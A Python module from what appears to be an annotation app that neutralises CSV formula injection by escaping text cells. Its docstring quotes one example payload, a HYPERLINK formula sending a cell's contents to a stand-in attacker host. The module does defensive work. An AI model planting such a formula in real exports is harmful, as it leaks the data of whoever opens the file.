"""Text cells of the CSV exports made safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is a formula to Excel, LibreOffice and Google Sheets: a rater's free
text ``=HYPERLINK("http://evil.example/?"&A1, "x")`` would run when the lead
opens the file. Such a text cell gets a leading ``'`` (OWASP, "CSV
Injection"), which the spreadsheets show as text and do not display.
Numbers are left alone, negative ones included (``-1``, ``+2.5``, ``-1e-05``):
they are not formulas.

So that an escaped cell reads back as it was, a cell that is one or more
``'`` followed by such a start gets one more ``'``; :func:`unescape_cell`
takes exactly one off such a cell and leaves every other cell as it is.
A file whose cells were never escaped therefore reads back unchanged, with
one exception: a cell such as ``'=x`` (an apostrophe, then a formula start),
which loses its first ``'``. The rule cell by cell is in
:mod:`annotator.metrics._csv_escape` (the metrics read the matrix back without the
rest of the app); this module applies it to whole columns.
"""

from __future__ import annotations

import re

import numpy as np
import pandas as pd

from ..metrics._csv_escape import FORMULA_STARTS, escape_cell, needs_escape, unescape_cell

__all__ = ["FORMULA_STARTS", "needs_escape", "escape_cell", "unescape_cell", "escape_cells"]

# The first characters of a cell that may need escaping.
_FIRST = frozenset("'=+-@\t\r")
# Such a first character in a column's cells joined by NUL characters.
_JOINED_START = re.compile("\x00['=+\\-@\t\r]")


def escape_cells(values: np.ndarray | pd.Series) -> np.ndarray:
    """:func:`escape_cell` of every ``str`` in an object array; other values as they are."""
    cells = np.asarray(values, dtype=object)
    # One pass in C over the column first: most hold no cell to escape. (The
    # text of a value that is not a str can only add a false alarm.)
    if not _JOINED_START.search("\x00" + "\x00".join(map(str, cells.tolist()))):
        return cells
    positions = [
        i
        for i, cell in enumerate(cells.tolist())
        if isinstance(cell, str) and cell[:1] in _FIRST and needs_escape(cell)
    ]
    if not positions:
        return cells
    cells = cells.copy()
    for i in positions:
        cells[i] = "'" + cells[i]
    return cells
